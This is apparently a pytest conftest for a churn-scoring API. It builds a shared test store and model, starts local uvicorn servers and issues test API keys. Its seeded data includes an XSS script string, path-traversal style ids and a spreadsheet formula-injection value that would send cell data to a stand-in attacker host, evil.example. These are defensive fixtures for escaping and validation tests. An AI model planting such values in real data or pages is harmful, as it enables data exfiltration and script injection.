"""A real store and registry, built once per session, and real servers (uvicorn on a free 127.0.0.1 port).

1,500 generated customers, a few of them given the awkward ids, segments and texts real data has (`AWKWARD_IDS`,
`FORMULA_SEGMENT`, `SCRIPT`), are validated, trained on (MLflow in SQLite under the pytest temp folder, never
the project's mlruns/) and scored as of 2025-12-31. Under pytest-xdist the workers share one store: the first to
take the lock builds it. Tests treat that store as read-only; a test that writes copies the data folder first.
"""

from __future__ import annotations

import datetime as dt
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pandas as pd
import pytest

from tests.session_build import build_once

if TYPE_CHECKING:
    from retain.simulate import SampleData

CUSTOMERS = 1500
SEED = 20251231
AS_OF = dt.date(2025, 12, 31)
# ids the contract allows that a URL or a spreadsheet treats specially: a slash, 300 characters, a leading "-",
# a dot segment (HTTP clients remove it from a path, RFC 3986 5.2.4, unless it is sent as %2E%2E)
# and markup a page must show as text (in that customer's words too; tests that plant `SCRIPT` as an id of their
# own in a copy of the batch keep their id unique)
SCRIPT = "<script>alert(1)</script>"
SCRIPT_ID = '<script>alert("id")</script>'
AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42", "C0000007": "..",
               "C0000009": SCRIPT_ID}
FORMULA_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a spreadsheet formula in a text cell
FORMULA_CUSTOMERS = ("C0000005", "C0000006")


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line("markers", "slow: runs for more than a few seconds (schemathesis, subprocesses)")




@dataclass(frozen=True)
class Store:
    base: Path
    data_dir: Path
    tracking_uri: str
    batch_id: str

    def settings(self, **changes: Any) -> Any:
        from retain.settings import Settings

        values = {"mlflow_tracking_uri": self.tracking_uri, "mlflow_artifact_root": self.base / "artifacts",
                  "training_cutoffs": 2, "data_dir": self.data_dir, "seed": SEED, **changes}
        return Settings(_env_file=None, **values)  # type: ignore[call-arg]

    def scores(self) -> pd.DataFrame:
        """The served batch in API order (value at risk desc, NaN last, ties by id), as the store loads it."""
        from batch.store import ScoreBatch, store_dir

        return ScoreBatch.load(store_dir(self.data_dir)).frame


def _with_awkward_values(sample: SampleData) -> SampleData:
    """The sample with `AWKWARD_IDS` renamed in every table, `FORMULA_SEGMENT` given to `FORMULA_CUSTOMERS` and
    `SCRIPT` in the words of the customer `SCRIPT_ID`."""
    for frame in (sample.customers, sample.transactions, sample.interactions, sample.truth):
        if frame is not None:
            frame["customer_id"] = frame["customer_id"].replace(AWKWARD_IDS)
    formula = sample.customers["customer_id"].isin(FORMULA_CUSTOMERS)
    sample.customers.loc[formula, "segment"] = FORMULA_SEGMENT
    script = sample.interactions["customer_id"] == SCRIPT_ID
    sample.interactions.loc[script, "text"] = SCRIPT + " and still waiting"
    return sample


def _build(base: Path) -> dict[str, str]:
    from batch.job import score_all
    from retain.ingest import load
    from retain.sample import write_sample
    from retain.simulate import generate
    from training.pipeline import train

    store = Store(base, base / "data", f"sqlite:///{base}/mlflow.db", "")
    write_sample(_with_awkward_values(generate(CUSTOMERS, SEED)), store.data_dir)
    data = load(store.data_dir)
    train(store.settings(), data, store.data_dir, AS_OF, None)
    _, info = score_all(store.settings(), data, store.data_dir, AS_OF, dt.datetime.now(dt.UTC))
    return {"data_dir": str(store.data_dir), "tracking_uri": store.tracking_uri, "batch_id": info.batch_id}


@pytest.fixture(scope="session")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    base, summary = build_once(tmp_path_factory, "serving-store", _build)
    return Store(base, Path(summary["data_dir"]), summary["tracking_uri"], summary["batch_id"])


@dataclass(frozen=True)
class Keys:
    reader: str
    admin: str
    env_reader: str  # configured through api_key_hashes (RETAIN_API_KEY_HASHES) rather than the file
    file: Path

    def settings_changes(self) -> dict[str, Any]:
        from serving.auth import hash_key

        return {"api_keys_file": self.file, "api_key_hashes": {"reader": [hash_key(self.env_reader)]}}


@pytest.fixture(scope="session")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    from serving.auth import add_key

    file = tmp_path_factory.mktemp("keys") / "api_keys.json"
    return Keys(add_key(file, "reader"), add_key(file, "admin"), "env-reader-key-0123456789", file)


def _free_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    return sock


@contextmanager
def running_server(settings_or_app: Any) -> Iterator[str]:
    """uvicorn serving `create_app(settings)` (or a given app) in a thread on a free 127.0.0.1 port; yields
    its base URL."""
    import uvicorn
    from fastapi import FastAPI

    from serving.app import create_app

    app = settings_or_app if isinstance(settings_or_app, FastAPI) else create_app(settings_or_app)
    sock = _free_socket()
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False,
                                           lifespan="on"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("the test server did not start")
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=30)
        sock.close()


@pytest.fixture(scope="session")
def base_url(store: Store, keys: Keys) -> Iterator[str]:
    """The main test server, over the shared store (read-only)."""
    with running_server(store.settings(**keys.settings_changes())) as url:
        yield url


@pytest.fixture(scope="session")
def client(base_url: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=base_url, timeout=30) as session:
        yield session


@pytest.fixture()
def data_copy(store: Store, tmp_path: Path) -> Path:
    """A private copy of the store's data folder (inputs, caches and scores) for tests that write."""
    return Path(shutil.copytree(store.data_dir, tmp_path / "data"))
